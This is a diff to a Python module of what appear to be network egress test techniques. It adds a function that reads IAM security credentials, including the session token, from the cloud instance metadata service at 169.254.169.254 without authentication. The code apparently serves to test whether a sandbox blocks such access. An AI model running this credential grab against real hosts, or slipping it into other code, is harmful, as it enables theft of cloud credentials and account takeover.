@@ -1,7 +1,9 @@
-"""Attempts without TLS: HTTP in several disguises, other protocols on a permitted port, and datagrams."""
+"""Attempts without TLS: HTTP in several disguises, the metadata service, other protocols on a permitted port, and datagrams."""
 
 from __future__ import annotations
 
+import http.client
+import json
 import socket
 import time
 
@@ -56,6 +58,23 @@ def _build_request(form: str, host: str, nonce: str) -> str:
     return forms["" if form == "reused" else form]
 
 
+def read_credentials(attempt: Attempt) -> None:
+    """Read the host's credentials from the metadata service without a token."""
+    attempt.marks.append("/latest/meta-data/iam/security-credentials/")
+    base = "/latest/meta-data/iam/security-credentials/"
+    role = _fetch_path(base)
+    attempt.took.append(str(json.loads(_fetch_path(base + role))["Token"]))
+
+
+def _fetch_path(path: str) -> str:
+    connection = http.client.HTTPConnection("169.254.169.254", timeout=3)
+    connection.request("GET", path)
+    answer = connection.getresponse()
+    if answer.status != 200:
+        raise PermissionError(f"HTTP {answer.status}")
+    return answer.read().decode()
+
+
 def send_protocol_start(attempt: Attempt) -> None:
     """Open a connection, send the start of another protocol, then the nonce."""
     with close_after_delivery(attempt.connect(attempt.parse_number("port", 443))) as handle:
@@ -75,4 +94,4 @@ def send_datagrams(attempt: Attempt) -> None:
             time.sleep(0.2)
 
 
-TECHNIQUES: dict[str, Technique] = {"http": send_http, "say": send_protocol_start, "udp": send_datagrams}
+TECHNIQUES: dict[str, Technique] = {"http": send_http, "metadata": read_credentials, "say": send_protocol_start, "udp": send_datagrams}
